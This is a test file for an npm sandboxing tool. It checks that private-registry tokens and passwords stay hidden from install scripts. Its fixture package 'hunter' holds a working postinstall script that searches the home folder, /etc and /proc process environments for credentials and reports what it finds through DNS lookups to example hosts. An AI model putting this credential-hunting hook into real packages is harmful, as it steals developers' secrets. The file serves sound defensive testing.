import { readdirSync, readFileSync, statSync } from 'node:fs'
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { cli, safeNpm } from '../helpers/cli.ts'
import { makePackage } from '../helpers/fixtures.ts'
import { type PrivateRegistry, startPrivateRegistry } from '../helpers/private-registry.ts'
import { type LoopbackRegistry, startRegistry } from '../helpers/registry.ts'
import { createWorld, type World, type WorldOptions } from '../helpers/world.ts'

// A company's registry: a token, an authority and a proxy of its own, below a path. npm's own settings lead to it, the
// token stays on the host, and a script that hunts for it finds nothing.
let open: LoopbackRegistry
let closed: PrivateRegistry
beforeAll(async () => {
  open = await startRegistry()
  closed = await startPrivateRegistry()
  await closed.publish(
    hunter('hunter'),
    hunter('@corp/hunter'),
    makePackage(
      {
        name: 'calls',
        version: '1.0.0',
        scripts: { postinstall: "node -e \"require('dns').lookup('out.calls.example',()=>{})\"" },
      },
      {},
    ),
  )
})
afterAll(async () => {
  await open[Symbol.asyncDispose]()
  await closed[Symbol.asyncDispose]()
})

/** Looks for the credentials everywhere, and asks for a name that says whether it found one. It knows them backwards. */
function hunter(name: string) {
  const wanted = [closed.token, closed.basic, 'pa55-of-the-company'].map((text) =>
    [...text].reverse().join(''),
  )
  const code = `
    const fs = require('fs'), os = require('os'), path = require('path'), dns = require('dns')
    const wanted = ${JSON.stringify(wanted)}.map((text) => [...text].reverse().join(''))
    const found = new Set()
    const look = (where, text) => { if (wanted.some((one) => text.includes(one))) found.add(where) }
    look('env', JSON.stringify(process.env))
    const walk = (folder, depth) => {
      let names = []
      try { names = fs.readdirSync(folder) } catch { return }
      for (const name of names) {
        const at = path.join(folder, name)
        try {
          const info = fs.lstatSync(at)
          if (info.isDirectory()) { if (depth > 0 && !/^\\/(proc|sys|dev|usr)/.test(at)) walk(at, depth - 1) }
          else if (info.isFile() && info.size < 200000) look('file', fs.readFileSync(at, 'utf8'))
        } catch {}
      }
    }
    for (const folder of [os.homedir(), '/etc', '/tmp', '/run', process.env.INIT_CWD || '.', path.dirname(process.env.npm_execpath || '/x')]) walk(folder, 4)
    for (const pid of fs.readdirSync('/proc').filter((one) => /^[0-9]+$/.test(one)))
      for (const name of ['environ', 'cmdline']) try { look('process', fs.readFileSync('/proc/' + pid + '/' + name, 'utf8')) } catch {}
    const names = found.size ? [...found].map((where) => where + '.found.example') : ['nothing.found.example']
    for (const one of names) dns.lookup(one, () => {})
  `
  return makePackage(
    { name, version: '1.0.0', scripts: { postinstall: 'node hunt.js' } },
    { 'hunt.js': code },
  )
}

const at = () => closed.url.replace(/^https:/, '')

async function worldWith(
  npmrc: (text: string) => readonly string[],
  more: Partial<WorldOptions> = {},
): Promise<World> {
  const world = await createWorld({ registry: open, ...more })
  const common = [
    `cafile=${closed.cafile}`,
    'fund=false',
    'audit=false',
    'update-notifier=false',
    'fetch-retries=0',
  ]
  await writeFile(join(world.home, '.npmrc'), `${[...common, ...npmrc(at())].join('\n')}\n`)
  return world
}

/** Everything that a run has left in the world, but for npm's own settings and cache. */
function leftBehind(world: World): string {
  const texts: string[] = []
  for (const name of readdirSync(world.root, { recursive: true }) as string[]) {
    const path = join(world.root, name)
    if (/(^|\/)(\.npmrc|_cacache)(\/|$)/.test(name) || !statSync(path).isFile()) continue
    texts.push(readFileSync(path, 'latin1'))
  }
  return texts.join('\n')
}

const SETTINGS: readonly (readonly [name: string, spec: string, (text: string) => readonly string[]])[] = [
  [
    'a token for the registry',
    'hunter',
    (text) => [`registry=${closed.url}`, `${text}:_authToken=${closed.token}`],
  ],
  [
    'user and password in one',
    'hunter',
    (text) => [`registry=${closed.url}`, `${text}:_auth=${closed.basic}`],
  ],
  [
    'user and password',
    'hunter',
    (text) => [
      `registry=${closed.url}`,
      `${text}:username=ann`,
      `${text}:_password=${Buffer.from('pa55-of-the-company').toString('base64')}`,
    ],
  ],
  [
    'a registry for a scope, behind a proxy',
    '@corp/hunter',
    (text) => [
      `registry=${open.url}`,
      `@corp:registry=${closed.url}`,
      `${text}:_authToken=${closed.token}`,
      `https-proxy=${closed.proxy}`,
    ],
  ],
  [
    'a token in a variable',
    'hunter',
    (text) => [`registry=${closed.url}`, `${text}:_authToken=\${COMPANY_TOKEN}`],
  ],
]

test.each(SETTINGS)(
  '%s: it is installed from, and a script finds no credential',
  async (name, spec, npmrc) => {
    await using world = await worldWith(npmrc, { env: { COMPANY_TOKEN: closed.token } })
    closed.tunnels.length = 0
    const watched = await safeNpm(world, ['install', spec])
    expect(watched.code, watched.stderr).toBe(101)
    expect([...new Set(watched.report?.queries.map(({ name: asked }) => asked))]).toEqual([
      'nothing.found.example',
    ])

    const installed = await safeNpm(world, ['install', spec, '--safe-yes'])
    expect(installed.code, installed.stderr).toBe(0)
    expect(closed.tunnels.length > 0).toBe(name.includes('proxy'))
    const printed = [watched.stdout, watched.stderr, installed.stdout, installed.stderr].join('\n')
    for (const secret of [closed.token, closed.basic, 'pa55-of-the-company']) {
      expect(printed).not.toContain(secret)
      expect(leftBehind(world)).not.toContain(secret)
    }
  },
)

test('a contact is told of, and what is known is not watched again', async () => {
  await using world = await worldWith((text) => [
    `registry=${closed.url}`,
    `${text}:_authToken=${closed.token}`,
  ])
  const blocked = await safeNpm(world, ['install', 'calls', '--strict'])
  expect(blocked.code, blocked.stderr).toBe(100)
  expect(blocked.report?.findings).toEqual([
    expect.objectContaining({ host: 'out.calls.example', package: 'calls' }),
  ])
  expect((await safeNpm(world, ['install', 'calls', '--strict'])).report?.engine).toBeNull()
})

test('without the credential npm says what it says, and nothing is installed', async () => {
  await using world = await worldWith(() => [`registry=${closed.url}`])
  const plain = await world.npm('install', 'hunter')
  const ours = await cli(world, 'safe-npm', ['install', 'hunter'])
  expect(ours.code).toBe(plain.code)
  expect(ours.stderr).toMatch(/E401/)
})

test('an authority that is not told of is an error, not a way around', async () => {
  await using world = await createWorld({ registry: open })
  await writeFile(
    join(world.home, '.npmrc'),
    `registry=${closed.url}\n${at()}:_authToken=${closed.token}\nfetch-retries=0\n`,
  )
  const { code, stderr } = await cli(world, 'safe-npm', ['install', 'hunter'])
  expect(code).not.toBe(0)
  expect(stderr).toMatch(/certificate|self.signed|UNABLE_TO/i)
})
